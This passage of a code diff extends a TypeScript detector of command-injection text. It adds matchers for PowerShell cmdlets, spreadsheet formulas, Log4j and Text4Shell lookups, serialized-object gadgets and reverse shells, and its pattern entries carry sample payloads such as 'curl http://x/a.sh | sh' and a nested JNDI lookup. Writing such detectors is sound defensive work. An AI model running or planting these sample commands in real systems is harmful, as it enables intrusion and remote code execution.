@@ -1,6 +1,22 @@
-import { NAMED, PLAIN, SHELL, SURE, TARGET, word, wordsOf } from "./keywords.ts";
+import {
+  BARE,
+  EMPTY_WORD,
+  findWord,
+  hashByte,
+  lower,
+  NAMED,
+  PLAIN,
+  SHELL,
+  SURE,
+  TARGET,
+  word,
+  WORD_CLASS,
+  WORD_TEXT,
+  wordsOf,
+} from "./keywords.ts";
 import type { Pattern } from "./pattern.ts";
 import {
+  ADDRESS,
   argumentKind,
   BACKTICK,
   BEGINNING,
@@ -9,7 +25,9 @@ import {
   EXPANSION,
   FILE,
   hasProgramPath,
+  isAlone,
   isDoubled,
+  isRow,
   isShell,
   isTable,
   LINE_BREAK,
@@ -29,7 +47,7 @@ import {
   takesNumber,
   URL,
 } from "./shell_grammar.ts";
-import { BOUND, NUMBER, type Tokens, WORD } from "./tokens.ts";
+import { BOUND, LINE, NUMBER, type Tokens, WORD } from "./tokens.ts";
 
 const RM = word("rm");
 const IFS = word("ifs");
@@ -91,7 +109,31 @@ const LOOKUPS = new Set(
     "web_inf",
   ].map(word),
 );
+const INIT = word("init"), EXPORT = word("export"), SERVICE = word("service"), ID = word("id"), HOME = word("home");
+const EXE = word("exe"), FROMBASE64STRING = word("frombase64string"), DIAGNOSTICS = word("diagnostics");
+const REFLECTION = word("reflection"), INVOKE = word("invoke"), EXPRESSION = word("expression"), START = word("start");
+const WMIMETHOD = word("wmimethod"), CIMMETHOD = word("cimmethod"), WEBREQUEST = word("webrequest");
+const RESTMETHOD = word("restmethod"), COMMAND = word("command"), PROCESS = word("process"), REMOVE = word("remove");
+const ITEM = word("item"), NEW = word("new"), OBJECT = word("object"), SYSTEM = word("system"), SET = word("set");
+const MPPREFERENCE = word("mppreference"), FI = word("fi"), DONE = word("done"), THEN = word("then"), DO = word("do");
+const IN = word("in"), EVAL = word("eval"), ASSERT = word("assert"), IMPORT = word("import"), CALL = word("call");
+const RUN = word("run"), RUBY = word("ruby"), PYTHON = word("python"), JAVAX = word("javax"), JAVA = word("java");
+const COM = word("com"), JDBCROWSETIMPL = word("jdbcrowsetimpl"), OBJECTDATAPROVIDER = word("objectdataprovider");
+const BUSYBOX = word("busybox"), DNS = word("dns"), UTF = word("utf");
+const TEXT_LOOKUPS = new Set(["url", "dns", "script", "file"].map(word));
+const SUPERGLOBALS = new Set(["_get", "_post", "_request", "_cookie"].map(word));
+const DECODERS = new Set(["base64_decode", "compile", "gzinflate", "str_rot13", "atob"].map(word));
+/** SURE, but numbers and signs stand behind them in other texts. */
+const NO_LINE = new Set(
+  ["reg", "printf", "attrib", "hostname", "mkdir", "rmdir", "xxd", "uptime", "wg", "ufw"].map(word),
+);
+const SCRIPTBLOCK = word("scriptblock"), STOP = word("stop"), RESTART = word("restart"), GET = word("get");
+const ADD = word("add"), CONTENT = word("content"), CHILDITEM = word("childitem"), COMPUTER = word("computer");
+const EXECUTIONPOLICY = word("executionpolicy");
+const TRAP = word("trap");
+const INET = word("inet"), IP = word("ip");
 const SLASH = 0x2f,
+  BACKSLASH = 0x5c,
   DOLLAR = 0x24,
   OPEN = 0x28,
   CLOSE = 0x29,
@@ -105,7 +147,12 @@ const SLASH = 0x2f,
 /** `; rm -rf /`, `| sh`, `$(id)`: a program behind a separator of the shell. */
 function isCommand(t: Tokens, i: number): boolean {
   const context = commandContext(t, i);
-  if (context === NOWHERE || context === BEGINNING) return false;
+  if (context === NOWHERE) return false;
+  if (context === BEGINNING) {
+    // A text of nothing but a line break and `id`.
+    return ((t.flags[i] as number) & LINE) !== 0 && standsAlone(t.bits[i] as number) && t.kind[i + 1] === BOUND &&
+      t.kind[i - 1] === BOUND;
+  }
   const bits = t.bits[i] as number;
   const behind = nameEndsAt(t, i);
   const argument = argumentKind(t, behind, context);
@@ -120,33 +167,82 @@ function isCommand(t: Tokens, i: number): boolean {
   if (context === BACKTICK) return isSubstituted(t, i, argument);
   if (context === LINE_BREAK) {
     // Lines of logs and of source code begin with such words too: only what looks like nothing else counts.
-    if (argument === ENDS) return isSure && standsAlone(bits);
+    if (argument === ENDS) return (isSure && standsAlone(bits)) || isShortSecondLine(t, i);
     if (argument === OPTION || argument === URL || argument === EXPANSION) return true;
     return (argument === PATH && isKnownPath(t, behind)) || (argument === QUOTED && isSure);
   }
   switch (argument) {
     case ENDS:
       if (hasProgramPath) return true;
+      if (isAlone(t, i)) return true;
       if (!standsAlone(bits)) return false;
       if (isDoubled && t.kind[behind] !== BOUND && t.kind[behind] !== PIPE && t.kind[behind] !== 0x23) return isSure;
-      return isSure || !(isTable(t, i) || endsSentence(t, bits));
+      return (isSure && !isRow(t)) || !(isTable(t, i) || endsSentence(t, bits));
+    case FILE:
+      // eth0; ip 10.0.0.5
+      return t.word[i] !== IP || t.kind[behind] !== NUMBER;
     case OPTION:
     case PATH:
-    case FILE:
     case URL:
     case EXPANSION:
       return true;
+    case ADDRESS:
+      return isSure || isNamed || context !== SEMICOLON;
     case QUOTED:
       return isSure || isNamed || t.word[i] === ECHO || t.word[i] === CAT || t.kind[behind] === 0x3c;
     case NUMERAL:
-      return (takesNumber(bits) || t.word[i] === ECHO) && isLast(t, behind);
+      return (takesNumber(bits) || isSure || t.word[i] === ECHO || t.word[i] === INIT) && isLast(t, behind) &&
+        !isTable(t, i);
     case PLAIN_WORD:
+      if (VERBS.get(t.word[i] as number)?.has(t.word[behind] as number) === true) return !isTable(t, i);
+      if (t.word[i] === TRAP) return t.glued(i) && isLast(t, behind + 1);
+      if (t.word[i] === EXPORT) return t.kind[behind + 1] === EQUALS && t.glued(behind + 1);
+      if (t.word[i] === SERVICE) return SERVICE_VERBS.has(t.word[behind + 1] as number) && isLast(t, behind + 1);
+      if (isSure && t.kind[behind + 1] === COLON && t.glued(behind + 1)) return true;
       if (isNamed && (t.kind[behind + 1] === EQUALS || hasArgument(t, behind + 1))) return true;
       if (isSure) return isLast(t, behind) || isLast(t, behind + 1) || hasArgument(t, behind + 1);
       if (t.word[i] === NET) return t.word[behind] === USER || hasArgument(t, behind + 1);
       return (t.word[i] === ECHO || isShell(bits)) && isLast(t, behind) && !isTable(t, i);
   }
   return false;
+}
+
+/** Programs whose second word says that they are meant as programs. */
+const VERBS: ReadonlyMap<number, ReadonlySet<number>> = new Map(
+  ([
+    ["apt yum dnf apk opkg pip pip3 npm snap brew cargo", "install remove uninstall update upgrade add del"],
+    ["docker podman", "run exec stop rm kill pull build start"],
+    ["kubectl", "get delete create apply exec run"],
+    ["git", "clone pull push"],
+    ["redis", "flushall flushdb config set"],
+    ["aws gcloud az", "s3 config"],
+    ["ps", "aux ef"],
+    ["su", "root admin"],
+    ["sudo", "su reboot sh bash"],
+    ["passwd", "root admin"],
+    ["ip", "addr a address link l route r neigh"],
+    ["shutdown", "now"],
+    ["net", "user start stop view share use localgroup accounts"],
+    ["wmic", "process os"],
+    ["sc", "stop start create delete config query"],
+    ["uci nvram gpio", "set show get commit delete write read export"],
+    ["mtd", "erase write unlock"],
+    ["netsh", "advfirewall firewall wlan interface"],
+    ["ufw", "disable"],
+    ["ubus", "call list"],
+    ["route", "add del delete print"],
+    ["arp", "a"],
+  ] as const).flatMap(([programs, verbs]) => {
+    const set = new Set(verbs.split(" ").map(word));
+    return programs.split(" ").map((program): [number, ReadonlySet<number>] => [word(program), set]);
+  }),
+);
+const SERVICE_VERBS = new Set(["start", "stop", "restart", "status"].map(word));
+
+/** `dev1⏎id`: a second line that is nothing but a command, behind a first one of one word. */
+function isShortSecondLine(t: Tokens, i: number): boolean {
+  const isLone = t.kind[separatorAt] === WORD && t.kind[separatorAt - 1] === BOUND && t.kind[i + 1] === BOUND;
+  return isLone && (t.word[i] === ID || hasProgramPath);
 }
 
 /** A program of at most three letters. */
@@ -160,6 +256,8 @@ function isLongCommand(t: Tokens, i: number): boolean {
 
 /** `timeout; reboot`: the separator is the punctuation of a sentence, and the command one of its words. */
 function endsSentence(t: Tokens, bits: number): boolean {
+  // x.bin; reboot: behind the name of a file or a host.
+  if (t.kind[separatorAt - 2] === DOT && t.glued(separatorAt - 1) && t.glued(separatorAt - 2)) return false;
   return (bits & PLAIN) !== 0 && t.kind[separatorAt] === SEMICOLON && t.kind[separatorAt - 1] === WORD &&
     t.glued(separatorAt) && t.spaced(separatorAt + 1) && t.end[separatorAt - 1]! - t.start[separatorAt - 1]! > 2;
 }
@@ -189,7 +287,7 @@ function isKnownPath(t: Tokens, i: number): boolean {
 function isLast(t: Tokens, at: number): boolean {
   const next = t.kind[at + 1] as number;
   return next === BOUND || next === SEMICOLON || next === PIPE || next === 0x26 || next === BACKTICK || next === 0x23 ||
-    next === 0x3e;
+    next === 0x3e || ((t.flags[at + 1] as number) & LINE) !== 0 || (next === 0x3c && t.kind[at + 2] === SLASH);
 }
 
 /** A command in backticks that are no Markdown: glued to a value, or the whole text. */
@@ -202,14 +300,27 @@ function isSubstituted(t: Tokens, i: number, argument: number): boolean {
   if (t.kind[closer] !== BACKTICK) return false;
   const before = t.kind[opener - 1] as number;
   if (before === BOUND) return t.kind[closer + 1] === BOUND;
+  // Markdown behind a semicolon, in a cell of a table.
+  const isMarkdown = t.spaced(opener) && (before === SEMICOLON || before === PIPE || before === 0x26);
+  if (isMarkdown && t.kind[closer + 1] !== BOUND) return false;
   return (t.glued(opener) && (before === WORD || before === NUMBER)) || before === SEMICOLON || before === PIPE ||
-    before === 0x26 ||
+    before === 0x26 || (before === OPEN && t.kind[opener - 2] === OPEN) ||
     before === 0x3d || before === DOLLAR;
 }
 
 /** A path of a program, a script or a variable behind a separator: `;/tmp/x`, `|/bin/busybox`, `;$a$b`, `;./x.sh`. */
 function isPathRun(t: Tokens, i: number): boolean {
+  if (t.kind[i] === 0x7e) {
+    // ;~/x
+    return t.kind[i + 1] === SLASH && t.kind[i + 2] === WORD && t.glued(i + 1) && t.glued(i + 2) &&
+      (t.kind[i - 1] === SEMICOLON || t.kind[i - 1] === PIPE || (t.kind[i - 1] === 0x26 && t.kind[i - 2] === 0x26)) &&
+      (t.kind[i + 3] === BOUND || t.spaced(i + 3) || t.kind[i + 3] === DOT);
+  }
   if (t.kind[i] === DOT) {
+    // ;../x
+    if (t.kind[i - 1] === DOT && t.kind[i - 2] === SEMICOLON && t.kind[i - 3] === BOUND) {
+      return t.kind[i + 1] === SLASH && t.kind[i + 2] === WORD;
+    }
     // ;./x.sh
     if (t.kind[i + 1] !== SLASH || t.kind[i + 2] !== WORD || !t.glued(i + 1) || !t.glued(i + 2)) return false;
     if (t.kind[i - 1] === 0x26 && t.kind[i - 2] !== 0x26 && !t.spaced(i)) return false;
@@ -219,6 +330,8 @@ function isPathRun(t: Tokens, i: number): boolean {
   if (t.kind[i - 1] !== SLASH || t.kind[i + 1] !== SLASH || !t.glued(i) || !t.glued(i + 1)) return false;
   let at = i - 1;
   for (let n = 0; n < 4 && t.kind[at - 1] === WORD && t.kind[at - 2] === SLASH && t.glued(at); n++) at -= 2;
+  // ;. /tmp/x.sh
+  if (t.kind[at - 1] === DOT && t.spaced(at)) at--;
   const before = t.kind[at - 1] as number;
   if (before === SEMICOLON || before === PIPE) {
     return t.kind[i + 2] === WORD || t.kind[i + 2] === 0x3f || t.kind[i + 2] === 0x2a;
@@ -230,8 +343,15 @@ function isPathRun(t: Tokens, i: number): boolean {
 
 /** Begins of commands that are dangerous wherever they stand. */
 function isShellWithCode(t: Tokens, i: number): boolean {
-  const behind = nameEndsAt(t, i);
+  let behind = nameEndsAt(t, i);
+  // ["sh","-c","…"]
+  if (t.kind[behind] === BOUND && t.kind[behind + 1] === 0x2c && t.kind[behind + 2] === BOUND) {
+    return isShell(t.bits[i] as number) && t.kind[behind + 3] === MINUS && t.word[behind + 4] === C_WORD &&
+      t.kind[behind + 5] === BOUND && t.kind[behind + 6] === 0x2c;
+  }
   if (t.kind[behind] !== MINUS || !t.spaced(behind) || !t.glued(behind + 1)) return false;
+  // ruby -rsocket -e'…'
+  if (t.kind[behind + 2] === MINUS && t.spaced(behind + 2) && t.glued(behind + 3) && t.isQuote(behind + 4)) behind += 2;
   const option = t.word[behind + 1] as number;
   if (option === I_WORD) {
     return t.kind[behind + 2] === 0x3e || t.kind[behind + 2] === 0x26 ||
@@ -260,16 +380,170 @@ function isDownload(t: Tokens, from: number): boolean {
   return false;
 }
 
+/** `Invoke-Expression …`, `Start-Process x.exe`, `Remove-Item -Recurse`, `[Diagnostics.Process]::Start(`. */
+function isCmdlet(t: Tokens, i: number): boolean {
+  const number = t.word[i] as number;
+  if (number === FROMBASE64STRING) return t.kind[i - 1] === COLON && t.kind[i + 1] === OPEN;
+  if (number === DIAGNOSTICS || number === REFLECTION || number === SCRIPTBLOCK) {
+    // @(System.Diagnostics.Process.Start("cmd"))
+    if (t.word[i + 2] === PROCESS && t.word[i + 4] === START && t.kind[i + 5] === OPEN) return true;
+    for (let at = i + 1; at < i + 8; at++) if (t.kind[at] === 0x5d) return t.kind[at + 1] === COLON;
+    return false;
+  }
+  if (t.kind[i + 1] !== MINUS || !t.glued(i + 1) || !t.glued(i + 2)) return false;
+  const noun = t.word[i + 2] as number;
+  const argument = argumentKind(t, i + 3, SEMICOLON);
+  // As PowerShell writes it: what follows need not look like an argument.
+  const isCapital = isUpper(t, i) && isUpper(t, i + 2) && argument !== NO_ARGUMENT && argument !== ENDS;
+  switch (number) {
+    case INVOKE:
+      if (noun === EXPRESSION || noun === WMIMETHOD || noun === CIMMETHOD) {
+        return argument !== ENDS || t.kind[i - 1] === PIPE;
+      }
+      return (noun === WEBREQUEST || noun === RESTMETHOD || noun === COMMAND) &&
+        (argument === URL || argument === OPTION || argument === QUOTED || argument === EXPANSION || isCapital);
+    case START:
+      return (noun === PROCESS || noun === SERVICE) &&
+        (argument === FILE || argument === QUOTED || argument === OPTION || argument === PATH || isCapital);
+    case STOP:
+    case RESTART:
+      return (noun === PROCESS || noun === SERVICE || noun === COMPUTER) && (isCapital || argument === OPTION);
+    case GET:
+      return (noun === CONTENT || noun === CHILDITEM || noun === PROCESS || noun === SERVICE || noun === ITEM) &&
+        (argument === PATH || argument === OPTION) && isCapital;
+    case REMOVE:
+      return noun === ITEM && (argument === OPTION || argument === PATH || argument === QUOTED || isCapital);
+    case NEW:
+      if (noun !== OBJECT) return false;
+      return argument === OPTION || ((t.word[i + 3] === NET || t.word[i + 3] === SYSTEM) && t.kind[i + 4] === DOT);
+    case ADD:
+    case SET:
+      return noun === MPPREFERENCE || (noun === EXECUTIONPOLICY && isCapital);
+  }
+  return false;
+}
+
+function isUpper(t: Tokens, i: number): boolean {
+  const first = t.bytes[t.start[i] as number] as number;
+  return first >= 0x41 && first <= 0x5a;
+}
+
+/** `=WEBSERVICE("http://…")`, `=DDE("cmd";…)`: cells of a spreadsheet that reach out. */
+function isFormula(t: Tokens, i: number): boolean {
+  const before = t.kind[i - 1] as number;
+  if (t.kind[i + 1] !== OPEN || (before !== EQUALS && before !== 0x2b && before !== MINUS && before !== 0x40)) {
+    return false;
+  }
+  return t.kind[i - 2] === BOUND || t.isQuote(i - 2) || t.kind[i - 2] === 0x2c || t.kind[i - 2] === SEMICOLON;
+}
+
+/** `; while true; do …; done`: a loop or a condition of a shell in one line. */
+function isShellBlock(t: Tokens, i: number): boolean {
+  if (t.kind[i - 1] !== SEMICOLON || (t.kind[i + 1] === WORD && ((t.flags[i + 1] as number) & LINE) === 0)) {
+    return false;
+  }
+  const opener = t.word[i] === FI ? THEN : t.word[i] === DONE ? DO : IN;
+  for (let at = i - 2; at > i - 40 && t.kind[at] !== BOUND; at--) {
+    if (t.word[at] === opener) return true;
+  }
+  return false;
+}
+
+/** `%0aid`, `%0d%0aid`: a line break written so, and a command alone. */
+function isEncodedLineBreak(t: Tokens, i: number): boolean {
+  const { bytes } = t;
+  let at = t.start[i] as number;
+  if (bytes[at + 1] !== 0x30 || ((bytes[at + 2] as number) | 0x20) !== 0x61) return false;
+  at += 3;
+  let hash = EMPTY_WORD;
+  let end = at;
+  for (; end < at + 16; end++) {
+    const low = lower(bytes[end] ?? 0);
+    if ((low < 0x61 || low > 0x7a) && low !== 0x5f) break;
+    hash = hashByte(hash, low);
+  }
+  if (end === at || !standsAlone(WORD_CLASS[findWord(bytes, at, end, hash)] as number)) return false;
+  // The end, white space, or a separator, encoded or not.
+  const next = bytes[end] ?? 0;
+  if (next !== 0x25) return next <= 0x20 || next === 0xff || ";|&#\"'".includes(String.fromCharCode(next));
+  const first = bytes[end + 1] ?? 0;
+  const second = (bytes[end + 2] ?? 0) | 0x20;
+  return first === 0x30 || (first === 0x32 && (second === 0x36 || second === 0x33)) ||
+    (first === 0x37 && second === 0x63) || (first === 0x33 && second === 0x62);
+}
+
+/** A string handed to what runs it, whose first word is a program: `os.system('id')`, `exec("cat /etc/x")`. */
+function isProgramCall(t: Tokens, i: number): boolean {
+  if (t.kind[i + 1] !== OPEN || !t.glued(i + 1)) return false;
+  let at = i + 2;
+  if (t.kind[at] === 0x5b) at++;
+  const number = t.word[i] as number;
+  if (number === EVAL || number === ASSERT) {
+    return DECODERS.has(t.word[at] as number) && t.kind[at + 1] === OPEN;
+  }
+  // PHP: system($_GET['c'])
+  if (t.kind[at] === DOLLAR) return SUPERGLOBALS.has(t.word[at + 1] as number);
+  if (number === CMD && t.kind[i - 1] !== COLON) return false;
+  if (!t.isQuote(at) && t.kind[at] !== BOUND) return false;
+  while (t.isQuote(at) || t.kind[at] === BACKSLASH) at++;
+  if (t.kind[at] === SLASH) return ((t.bits[at + 1] as number) & TARGET) !== 0;
+  if (t.word[at] === IMPORT) return number === EXEC;
+  const bits = t.bits[at] as number;
+  if (t.word[at] === ID) return number !== CALL && number !== RUN;
+  return (bits & SURE) !== 0 || ((bits & (NAMED | PLAIN)) !== 0 && (bits & BARE) !== 0);
+}
+
+/** Objects that are made again from a text, and run code in doing so: `!!python/object/apply`, `O:8:"X":1:{`. */
+function isSerializedObject(t: Tokens, i: number): boolean {
+  if (t.kind[i] === 0x21) {
+    const at = t.kind[i + 1] === 0x21 ? i + 2 : i + 1;
+    const language = t.word[at] as number;
+    if (t.kind[i + 1] !== 0x21) return language === RUBY && t.kind[at + 1] === SLASH && t.word[at + 2] === OBJECT;
+    if (language === PYTHON || language === RUBY) return t.kind[at + 1] === SLASH;
+    return (language === JAVAX || language === JAVA || language === COM) && t.kind[at + 1] === DOT;
+  }
+  if (t.word[i] === JDBCROWSETIMPL || t.word[i] === OBJECTDATAPROVIDER) return t.kind[i - 1] === DOT;
+  // O:8:"stdClass":1:{
+  return t.kind[i + 1] === COLON && t.kind[i + 2] === NUMBER && t.kind[i + 3] === COLON && t.glued(i + 1) &&
+    t.glued(i + 3) && (t.isQuote(i + 4) || t.kind[i + 4] === BACKSLASH || t.kind[i + 4] === BOUND);
+}
+
+/** A command line without anything before it, of a program that no text names otherwise. */
+function isCommandLine(t: Tokens, i: number): boolean {
+  if (commandContext(t, i) !== BEGINNING) return false;
+  const behind = nameEndsAt(t, i);
+  if (t.word[i] === BUSYBOX && hasProgramPath) return t.kind[behind] === WORD && t.spaced(behind);
+  if (NO_LINE.has(t.word[i] as number)) return false;
+  const argument = argumentKind(t, behind, BEGINNING);
+  if (argument === PLAIN_WORD) {
+    return VERBS.get(t.word[i] as number)?.has(t.word[behind] as number) === true || hasArgument(t, behind + 1);
+  }
+  // A negative number is no option.
+  if (argument === OPTION) return t.kind[behind + 1] !== NUMBER;
+  return argument === URL || (argument === PATH && t.kind[behind] !== 0x2a) ||
+    argument === EXPANSION;
+}
+
 function isInvokeExpression(t: Tokens, i: number): boolean {
   if (t.word[i] === DOWNLOADSTRING || t.word[i] === DOWNLOADFILE) {
     return t.kind[i + 1] === OPEN && t.kind[i - 1] === DOT;
   }
+  // iex "whoami"
+  if (t.isQuote(i + 1) && t.spaced(i + 1)) return commandContext(t, i) !== NOWHERE;
   return (t.kind[i + 1] === OPEN && t.kind[i - 1] !== DOT) || (t.kind[i - 1] === PIPE && t.kind[i + 1] === BOUND);
 }
 
 function isWindowsShell(t: Tokens, i: number): boolean {
   // %COMSPEC% /c
   if (t.word[i] === COMSPEC) return t.kind[i - 1] === 0x25 && t.kind[i + 1] === 0x25;
+  // & calc.exe
+  if (t.word[i] === EXE) {
+    if (t.kind[i - 1] !== DOT || t.kind[i - 2] !== WORD || !t.glued(i) || !t.glued(i - 1)) return false;
+    const before = t.kind[i - 3] as number;
+    const isEnd = t.kind[i + 1] === BOUND || t.spaced(i + 1) || t.kind[i + 1] === 0x26 || t.kind[i + 1] === PIPE;
+    if (before === PIPE || before === 0x26) return isEnd && t.kind[i - 4] !== EQUALS;
+    return before === SEMICOLON && t.glued(i - 2) && isEnd;
+  }
   const behind = nameEndsAt(t, i);
   // =cmd|'/c calc'!A0
   if (
@@ -300,7 +574,9 @@ function isRemoval(t: Tokens, i: number): boolean {
 function isReverseShell(t: Tokens, i: number): boolean {
   const number = t.word[i] as number;
   if (number === TCP || number === UDP) {
-    return t.kind[i - 1] === SLASH && t.word[i - 2] === DEV && t.kind[i - 3] === SLASH && t.kind[i + 1] === SLASH;
+    // awk has /inet/tcp/
+    return t.kind[i - 1] === SLASH && (t.word[i - 2] === DEV || t.word[i - 2] === INET) && t.kind[i - 3] === SLASH &&
+      t.kind[i + 1] === SLASH;
   }
   if (number === SOCAT) {
     for (let at = i + 1; at < i + 16; at++) if (t.word[at] === EXEC && t.kind[at + 1] === COLON) return true;
@@ -349,6 +625,10 @@ function isInternalFieldSeparator(t: Tokens, i: number): boolean {
 
 /** `${PATH:0:1}`, `${a//x/y}`, `${!a}`: parts of variables, by which characters are written without writing them. */
 function isExpansionTrick(t: Tokens, i: number): boolean {
+  // $(</etc/x)
+  if (t.kind[i + 1] === OPEN && t.kind[i + 2] === 0x3c && t.glued(i + 1) && t.glued(i + 2)) {
+    return t.kind[i + 3] === SLASH || t.kind[i + 4] === SLASH;
+  }
   if (t.kind[i + 1] !== BRACE || !t.glued(i + 1)) return false;
   if (t.kind[i + 2] === 0x21) return t.kind[i + 3] === WORD && t.kind[i + 4] === CLOSE_BRACE && isCommandish(t, i);
   if (t.kind[i + 2] !== WORD && t.kind[i + 2] !== 0x40) return false;
@@ -368,13 +648,34 @@ function isCommandish(t: Tokens, i: number): boolean {
 function isVariableCommand(t: Tokens, i: number): boolean {
   if (!isCommandish(t, i)) return false;
   if (t.kind[i + 1] === NUMBER) {
-    return t.kind[i - 1] === PIPE && t.bytes[t.start[i + 1] as number] === 0x30 && t.spaced(i + 2);
+    if (t.bytes[t.start[i + 1] as number] !== 0x30 || t.end[i + 1]! - t.start[i + 1]! !== 1) return false;
+    // |$0 -c, ;$0<<<id, and `;$0` alone
+    return (t.kind[i - 1] === PIPE && t.spaced(i + 2)) || t.kind[i + 2] === 0x3c ||
+      (t.kind[i - 2] === BOUND && t.kind[i + 2] === BOUND);
   }
-  if (t.kind[i + 1] === BRACE) return t.kind[i + 3] === CLOSE_BRACE && t.kind[i + 4] === DOLLAR && t.glued(i + 4);
+  if (t.kind[i + 1] === BRACE) {
+    if (t.word[i + 2] === SHELL_WORD) return t.kind[i + 3] === CLOSE_BRACE;
+    return t.kind[i + 3] === CLOSE_BRACE && t.kind[i + 4] === DOLLAR && t.glued(i + 4);
+  }
   if (t.kind[i + 1] !== WORD || !t.glued(i + 1)) return false;
   if (t.word[i + 1] === SHELL_WORD) return true;
+  // ;$HOME/x
+  if (t.word[i + 1] === HOME && t.kind[i + 2] === SLASH) return t.kind[i + 3] === WORD;
   if (!hasAssignment(t, i)) return false;
+  // a=id;$a
+  if (isAssigned(t, i + 1) && (t.kind[i + 2] === BOUND || t.kind[i + 2] === SEMICOLON || t.spaced(i + 2))) return true;
   return t.kind[i + 2] === DOLLAR && t.glued(i + 2) && (t.kind[i + 3] === WORD || t.kind[i + 3] === BRACE);
+}
+
+/** A shell assigned to the name at `i` before: `name=`, without a `$`. */
+function isAssigned(t: Tokens, i: number): boolean {
+  for (let at = i - 3; at > i - 24; at--) {
+    if (
+      t.kind[at + 1] === EQUALS && t.kind[at] === WORD && t.glued(at + 1) && t.glued(at + 2) &&
+      t.kind[at + 2] !== EQUALS && t.kind[at - 1] !== DOLLAR && t.same(at, i)
+    ) return true;
+  }
+  return false;
 }
 
 function hasAssignment(t: Tokens, i: number): boolean {
@@ -392,6 +693,11 @@ function isGlobbedProgram(t: Tokens, i: number): boolean {
       (t.kind[at + 1] === 0x3f ||
         (t.kind[at + 1] === WORD && t.glued(at + 1) && t.kind[at + 2] === 0x3f && t.glued(at + 2)));
   }
+  // /b?n/c?t
+  if (
+    t.kind[i + 2] === SLASH && t.kind[i - 2] === SLASH && t.kind[i + 1] === WORD && t.glued(i) && t.glued(i + 1) &&
+    t.glued(i + 2) && (t.kind[i - 3] === SEMICOLON || t.kind[i - 3] === PIPE || t.kind[i - 3] === BOUND)
+  ) return t.kind[i + 3] === WORD || t.kind[i + 3] === 0x3f;
   // /bin/c?t, /b?n/cat
   for (let at = i - 1; at > i - 6; at--) {
     const number = t.word[at] as number;
@@ -450,9 +756,31 @@ function isLookup(t: Tokens, i: number): boolean {
   if (t.word[i] === JNDI) {
     return t.kind[i + 1] === COLON && (t.kind[i - 1] === BRACE || LOOKUP_SCHEMES.has(t.word[i + 2] as number));
   }
+  if (t.kind[i] === WORD) {
+    // …i:ldap:/x, behind whatever hid the name
+    if (t.kind[i - 1] !== COLON || t.kind[i + 1] !== COLON || t.kind[i + 2] !== SLASH || !t.glued(i + 2)) return false;
+    for (let at = i - 2; at > i - 60 && t.kind[at] !== BOUND; at--) {
+      if (t.kind[at] === DOLLAR && t.kind[at + 1] === BRACE) return true;
+    }
+    return false;
+  }
   // `${` in `${`, or a default value of nothing: no template has these.
   if (t.kind[i + 1] !== BRACE) return false;
-  const isNested = t.kind[i - 1] === BRACE && t.kind[i - 2] === DOLLAR;
+  // ${script:javascript:…}, ${url:UTF-8:…}, ${dns:address|…} (CVE-2022-42889)
+  if (
+    t.kind[i + 3] === COLON && TEXT_LOOKUPS.has(t.word[i + 2] as number) && t.glued(i + 3) && t.kind[i + 4] === WORD
+  ) {
+    if (t.word[i + 2] === DNS) return t.kind[i + 5] === PIPE;
+    return t.kind[i + 5] === COLON || (t.word[i + 4] === UTF && t.kind[i + 7] === COLON);
+  }
+  const isNested = (t.kind[i - 1] === BRACE && t.kind[i - 2] === DOLLAR) ||
+    (t.kind[i - 1] === WORD && t.glued(i) && t.kind[i - 2] === BRACE && t.kind[i - 3] === DOLLAR);
+  if (isNested) {
+    // ${${a:-j}ndi…
+    for (let at = i + 2; at < i + 12 && t.kind[at] !== CLOSE_BRACE && t.kind[at] !== BOUND; at++) {
+      if (t.kind[at] === COLON && t.kind[at + 1] === MINUS) return true;
+    }
+  }
   const isInside = isNested || (t.kind[i - 1] === CLOSE_BRACE) || t.kind[i - 1] === WORD && t.glued(i);
   if (t.kind[i + 2] === COLON) return t.kind[i + 3] === COLON && t.kind[i + 4] === MINUS;
   if (t.kind[i + 2] !== WORD || t.kind[i + 3] !== COLON || !t.glued(i + 3)) return false;
@@ -543,7 +871,7 @@ export const COMMAND_PATTERNS: readonly Pattern[] = [
     example: "x|/usr/local/bin/x",
     nearMiss: "topics a/bin/b; c/tmp/d",
     weak: true,
-    at: [...["bin", "sbin", "tmp"].map(word), "./"],
+    at: [...["bin", "sbin", "tmp"].map(word), "./", "~/"],
     test: isPathRun,
   },
   {
@@ -583,7 +911,7 @@ export const COMMAND_PATTERNS: readonly Pattern[] = [
     catches: "cmd /c, %COMSPEC%, and cells of spreadsheets that start programs",
     example: "cmd.exe /c dir",
     nearMiss: "set cmd to on and path to /c",
-    at: ["cmd", "comspec", "msexcel", "rundll32"].map(word),
+    at: ["cmd", "comspec", "msexcel", "rundll32", "exe"].map(word),
     test: isWindowsShell,
   },
   {
@@ -612,7 +940,7 @@ export const COMMAND_PATTERNS: readonly Pattern[] = [
     severity: "high",
     catches: "A download that is run at once",
     example: "curl http://x/a.sh | sh",
-    nearMiss: "curl http://x/status | the answer is on",
+    nearMiss: "see curl http://x/status | the answer is on",
     at: ["wget", "curl"].map(word),
     test: isDownloadAndRun,
   },
@@ -696,7 +1024,7 @@ export const COMMAND_PATTERNS: readonly Pattern[] = [
     catches: "JNDI lookups of Log4j (CVE-2021-44228), hidden in further lookups too",
     example: "${${lower:j}ndi:ldap://x/a}",
     nearMiss: "${name:-default} ${env:HOME}",
-    at: [JNDI, "$"],
+    at: [JNDI, "$", ...["ldap", "ldaps", "rmi", "iiop"].map(word)],
     test: isLookup,
   },
   {
@@ -728,6 +1056,124 @@ export const COMMAND_PATTERNS: readonly Pattern[] = [
       "pcntl_exec",
     ].map(word),
     test: isLanguageCall,
+  },
+  {
+    name: "cmd-program-call",
+    category: "command-injection",
+    severity: "medium",
+    catches: "A call that runs a string, with a program in it; eval of something encoded",
+    example: "os.system('id')",
+    nearMiss: "system('on') exec('insert') re.compile('id') run('id')",
+    at: [
+      "system",
+      "popen",
+      "exec",
+      "execsync",
+      "execute",
+      "spawn",
+      "spawnsync",
+      "call",
+      "check_output",
+      "check_call",
+      "run",
+      "eval",
+      "assert",
+      "cmd",
+      "passthru",
+      "shell_exec",
+    ].map(word),
+    test: isProgramCall,
+  },
+  {
+    name: "cmd-cmdlet",
+    category: "command-injection",
+    severity: "medium",
+    catches: "Commands of PowerShell that fetch, start or remove, and calls of .NET that do",
+    example: "Start-Process calc.exe",
+    nearMiss: "start-process: heating; set-item 5; new-object",
+    at: [
+      "invoke",
+      "start",
+      "stop",
+      "restart",
+      "get",
+      "add",
+      "remove",
+      "new",
+      "set",
+      "diagnostics",
+      "reflection",
+      "scriptblock",
+      "frombase64string",
+    ].map(word),
+    test: isCmdlet,
+  },
+  {
+    name: "cmd-formula",
